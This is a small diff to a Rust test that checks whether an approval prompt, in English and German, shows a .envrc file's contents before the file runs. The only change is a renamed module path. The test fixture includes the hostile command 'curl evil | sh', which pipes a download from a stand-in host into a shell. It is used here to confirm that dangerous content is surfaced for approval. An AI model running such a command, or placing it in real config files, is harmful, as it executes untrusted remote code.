@@ -70,7 +70,7 @@ fn they_are_asked_for_after_all_checks_with_what_they_hold() {
     let question = &view.questions[0];
     assert_eq!(question.kind, QuestionKind::Approval);
     assert!(question.text.contains("\n    .envrc: runs when") && question.text.contains("\n    + curl evil | sh"));
-    let german = helix_job::phrases::asks(helix_job::Language::German, question);
+    let german = helix_job::phrases::asks(helix_language::Language::German, question);
     assert!(german.contains("\n    .envrc: läuft, wenn") && german.contains("\n    + curl evil | sh"), "{german}");
     answer(&mut play, 1, "approve");
     assert!(matches!(play.phase("a"), PhaseState::Passed { .. }));
